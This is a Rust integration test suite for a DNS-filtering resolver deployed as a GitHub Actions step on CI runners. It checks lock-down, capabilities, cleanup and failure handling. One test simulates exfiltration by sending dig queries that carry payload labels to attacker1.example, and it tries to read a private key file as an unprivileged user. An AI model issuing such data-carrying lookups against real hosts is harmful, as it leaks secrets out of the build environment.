//! The composite action for CI runners: its scripts, run in a network namespace as a runner runs them.

mod world;

use std::os::unix::fs::PermissionsExt;
use std::process::Output;

use world::staunch::binary;
use world::{World, wait_for};

const TREE: &str = env!("CARGO_MANIFEST_DIR");

/// The world's gateway as a runner.
struct Runner {
    world: World,
}

impl Runner {
    fn create() -> Option<Self> {
        let world = World::create(1)?;
        // The resolver's user must reach its state.
        std::fs::set_permissions(world.dir(), std::fs::Permissions::from_mode(0o755)).expect("permissions");
        Some(Self { world })
    }

    /// Runs one of the action's scripts as root.
    fn script(&self, name: &str, variables: &[(&str, &str)]) -> Output {
        let mut command = self.world.gw.command("timeout");
        command.arg("60").arg(format!("{TREE}/deploy/github-action/{name}"));
        command.env("STAUNCH_BINARY", binary()).env("STAUNCH_DIR", self.world.path("runner"));
        command.env("GITHUB_OUTPUT", self.world.path("output")).env("GITHUB_STEP_SUMMARY", self.world.path("summary"));
        command.envs(variables.iter().copied());
        command.output().expect("the script runs")
    }

    #[track_caller]
    fn ok(&self, name: &str, variables: &[(&str, &str)]) {
        let output = self.script(name, variables);
        assert!(output.status.success(), "{name}: {}", said(&output));
    }

    /// Runs a step as an ordinary user.
    fn step(&self, line: &str) -> Output {
        let mut command = self.world.gw.command("timeout");
        command.args(["20", "setpriv", "--reuid", "1000", "--regid", "1000", "--clear-groups", "sh", "-c", line]);
        command.output().expect("the step runs")
    }

    /// What a server that is named, or the runner's own, says of a name.
    fn looks_up(&self, name: &str, server: &str, more: &str) -> bool {
        let output = self.step(&format!("dig +short +tries=1 +time=2 {more} {server} {name}"));
        String::from_utf8_lossy(&output.stdout).lines().any(|line| line == world::WEB.to_string())
    }

    fn resolv_conf(&self) -> String {
        String::from_utf8_lossy(&self.step("cat /etc/resolv.conf").stdout).into_owned()
    }

    fn read(&self, name: &str) -> String {
        std::fs::read_to_string(self.world.path(name)).unwrap_or_default()
    }

    fn pid(&self) -> i32 {
        self.read("runner/pid").trim().parse().expect("a process id")
    }
}

fn said(output: &Output) -> String {
    format!("{}{}", String::from_utf8_lossy(&output.stdout), String::from_utf8_lossy(&output.stderr))
}

const ELSEWHERE: &str = "@203.0.113.53";

#[test]
fn steps_are_judged_and_ask_nobody_else_until_the_end() {
    let Some(runner) = Runner::create() else { return };
    let before = runner.resolv_conf();
    for more in ["", "+tcp"] {
        assert!(runner.looks_up("www.site.example", ELSEWHERE, more), "the control: another server answers before");
    }
    runner.ok("start.sh", &[("STAUNCH_MODE", "enforce")]);
    assert!(runner.read("output").contains("events="), "the directory is an output");
    assert!(runner.resolv_conf().starts_with("nameserver 127.0.0.1\n"), "{}", runner.resolv_conf());

    let status = std::fs::read_to_string(format!("/proc/{}/status", runner.pid())).expect("it runs");
    let field = |name: &str| status.lines().find_map(|line| line.strip_prefix(name)).unwrap_or_default().trim();
    assert!(field("Uid:").starts_with("65532"), "{status}");
    for set in ["CapEff:", "CapBnd:", "CapPrm:"] {
        assert_eq!(field(set), "0000000000000400", "{set} CAP_NET_BIND_SERVICE, bit 10, alone");
    }
    assert_eq!(field("NoNewPrivs:"), "1");

    assert!(runner.looks_up("www.site.example", "", ""), "a step looks up a name");
    let fetched = runner.step("curl -sS -m 5 -o /dev/null http://www.site.example/");
    assert!(fetched.status.success(), "{}", said(&fetched));
    for more in ["", "+tcp"] {
        assert!(!runner.looks_up("www.site.example", ELSEWHERE, more), "another server is not to be asked ({more})");
    }
    // A secret in names: the session ends closed.
    for n in 0..12u64 {
        let label = world::Chance(n).label(48);
        runner.step(&format!("dig +short +tries=1 +time=2 {label}.attacker1.example"));
    }
    assert!(!runner.looks_up("www.site.example", "", ""), "the job's session is closed");
    let (names, octets) = runner.world.upstream.leaked("attacker1.example");
    println!("FIGURE: {names} names with {octets} payload octets of 12 with 576 left a runner");
    assert!(octets <= 256, "{names} names, {octets} octets");

    let pid = runner.pid();
    runner.ok("stop.sh", &[]);
    assert!(runner.read("summary").contains("attacker1.example"), "{}", runner.read("summary"));
    assert_eq!(runner.resolv_conf(), before);
    assert!(runner.looks_up("www.site.example", ELSEWHERE, ""), "the lock is gone");
    let gone = wait_for(std::time::Duration::from_secs(5), || {
        (!std::path::Path::new(&format!("/proc/{pid}")).exists()).then_some(())
    });
    assert!(gone.is_some(), "the resolver has ended");

    let events = runner.world.path("runner/events");
    let uploads = runner.step(&format!("cat {0}/events.jsonl {0}/log", events.display()));
    assert!(uploads.status.success() && said(&uploads).contains("attacker1.example"), "a step reads what it uploads");
    let key = runner.world.path("runner/state/node.key");
    assert!(!runner.step(&format!("cat {}", key.display())).status.success(), "the key is nobody's to read");
    let all = std::fs::read_dir(&events).expect("there").map(|file| file.expect("there").file_name());
    assert!(all.map(|name| name.into_string().expect("UTF-8")).all(|n| n == "log" || n.starts_with("events.jsonl")));
    // The state is as it has to be for the next one.
    runner.ok("start.sh", &[("STAUNCH_MODE", "enforce")]);
    assert!(!events.exists(), "nothing of the run before is taken for this one's");
    assert!(runner.looks_up("www.site.example", "", ""), "the job before was closed, and this one is another");
    runner.ok("stop.sh", &[]);
    let uploads = said(&runner.step(&format!("cat {}/events.jsonl", events.display())));
    assert!(uploads.contains("www.site.example") && !uploads.contains("attacker1.example"), "{uploads}");
}

#[test]
fn monitor_mode_answers_and_tells() {
    let Some(runner) = Runner::create() else { return };
    let rules = runner.world.path("rules.toml");
    let text = "[[rule]]\nid = \"no\"\naction = \"deny\"\nnames = [\"www.site.example\"]\nowner = \"o\"\nreason = \"r\"\n\
                review_by = \"2099-01-01\"\n";
    std::fs::write(&rules, text).expect("written");
    runner.ok("start.sh", &[("STAUNCH_RULES", rules.to_str().expect("UTF-8"))]);
    assert!(runner.looks_up("www.site.example", "", ""), "monitor mode answers");
    runner.ok("stop.sh", &[]);
    assert!(runner.read("summary").contains("www.site.example"), "{}", runner.read("summary"));
}

#[test]
fn an_end_before_the_end_is_told_and_what_was_locked_stays_locked_until_then() {
    let Some(runner) = Runner::create() else { return };
    runner.ok("start.sh", &[("STAUNCH_MODE", "enforce")]);
    let pid = runner.pid();
    // SAFETY: a plain system call on a process that this test has started.
    unsafe { libc::kill(pid, libc::SIGKILL) };
    let asked =
        wait_for(std::time::Duration::from_secs(5), || (!runner.looks_up("www.site.example", "", "")).then_some(()));
    assert!(asked.is_some(), "nobody serves");
    assert!(!runner.looks_up("www.site.example", ELSEWHERE, ""), "the lock stands");
    let output = runner.script("stop.sh", &[]);
    assert_eq!(output.status.code(), Some(1), "{}", said(&output));
    assert!(said(&output).contains("::error::"), "{}", said(&output));
    let summary = runner.read("summary");
    assert!(summary.contains("Not known") && !summary.contains("None on record"), "{summary}");
}

#[test]
fn a_number_that_is_somebody_elses_by_now_is_nobody_to_be_ended() {
    let Some(runner) = Runner::create() else { return };
    let before = runner.resolv_conf();
    runner.ok("start.sh", &[("STAUNCH_MODE", "enforce")]);
    // SAFETY: a plain system call on a process that this test has started.
    unsafe { libc::kill(runner.pid(), libc::SIGKILL) };
    // What a reboot leaves: the file, and a process that has nothing to do with it.
    let mut other = std::process::Command::new("sleep").arg("60").spawn().expect("it runs");
    std::fs::write(runner.world.path("runner/pid"), other.id().to_string()).expect("written");
    std::fs::write(runner.world.path("runner/boot"), "another boot\n").expect("written");
    let output = runner.script("stop.sh", &[]);
    assert!(!output.status.success(), "its end is told: {}", said(&output));
    assert!(other.try_wait().expect("a child").is_none(), "it was ended");
    assert_eq!(runner.resolv_conf(), before, "nobody has written another");
    // And the next job starts.
    runner.ok("start.sh", &[("STAUNCH_MODE", "enforce")]);
    // SAFETY: as above.
    unsafe { libc::kill(runner.pid(), libc::SIGKILL) };
    std::fs::write(runner.world.path("runner/pid"), other.id().to_string()).expect("written");
    runner.ok("start.sh", &[("STAUNCH_MODE", "enforce")]);
    runner.ok("stop.sh", &[]);
    assert_eq!(runner.resolv_conf(), before, "what stood before both");
    other.kill().and_then(|()| other.wait()).expect("ended");
}

#[test]
fn where_nothing_was_refused_that_is_told() {
    let Some(runner) = Runner::create() else { return };
    runner.ok("start.sh", &[("STAUNCH_MODE", "enforce")]);
    assert!(runner.looks_up("www.site.example", "", ""));
    runner.ok("stop.sh", &[]);
    let summary = runner.read("summary");
    assert!(summary.contains("None on record") && !summary.contains("Not known"), "{summary}");
}

#[test]
fn what_cannot_work_is_refused_before_anything_is_changed() {
    let Some(runner) = Runner::create() else { return };
    let before = runner.resolv_conf();
    let rules = runner.world.path("rules.toml");
    std::fs::write(&rules, "nonsense = true\n").expect("written");
    // A tool that the kernel does not let do its work.
    let tools = runner.world.path("tools");
    std::fs::create_dir(&tools).expect("made");
    std::fs::write(tools.join("nft"), "#!/bin/sh\necho no such luck >&2\nexit 1\n").expect("written");
    std::fs::set_permissions(tools.join("nft"), std::fs::Permissions::from_mode(0o755)).expect("permissions");
    let path = format!("{}:{}", tools.display(), std::env::var("PATH").expect("a path"));
    for (variables, told) in [
        (&[("STAUNCH_MODE", "canary")][..], "monitor or enforce"),
        (&[("STAUNCH_BINARY", "/nonexistent")], "not an executable"),
        (&[("STAUNCH_RULES", rules.to_str().expect("UTF-8"))], "does not load"),
        (&[("STAUNCH_UPSTREAM", "nonsense")], "does not load"),
        (&[("STAUNCH_UPSTREAM", "192.0.2.1, 127.0.1.1")], "would let it ask nobody"),
        (&[("STAUNCH_UPSTREAM", "[::1]:5353")], "would let it ask nobody"),
        (&[("STAUNCH_UPSTREAM", "192.0.2.1, ::1 ")], "would let it ask nobody"),
        // Docker's own asks from elsewhere; what is wrong with this is the other.
        (&[("STAUNCH_UPSTREAM", "192.0.2.1, 127.0.0.11:53, nonsense")], "does not load"),
        // An address that is not ours: it cannot become ready.
        (&[("STAUNCH_ADDRESS", "198.51.100.1")], "not become ready"),
        (&[("PATH", &*path)], "cannot be refused"),
        // The lock stands by then, and would leave nobody to ask.
        (
            &[("STAUNCH_RESOLV_CONF", "/nonexistent/resolv.conf"), ("STAUNCH_UPSTREAM", "192.0.2.1")],
            "cannot be replaced",
        ),
    ] {
        let output = runner.script("start.sh", variables);
        assert_eq!(output.status.code(), Some(1), "{variables:?}: {}", said(&output));
        assert!(said(&output).contains(told), "{variables:?}: {}", said(&output));
        assert_eq!(runner.resolv_conf(), before, "{variables:?}");
        assert_eq!(runner.read("runner/pid"), "", "{variables:?}");
    }
    let tables = runner.world.gw.sh("nft list tables");
    assert!(!String::from_utf8_lossy(&tables.stdout).contains("staunch_runner"));
}
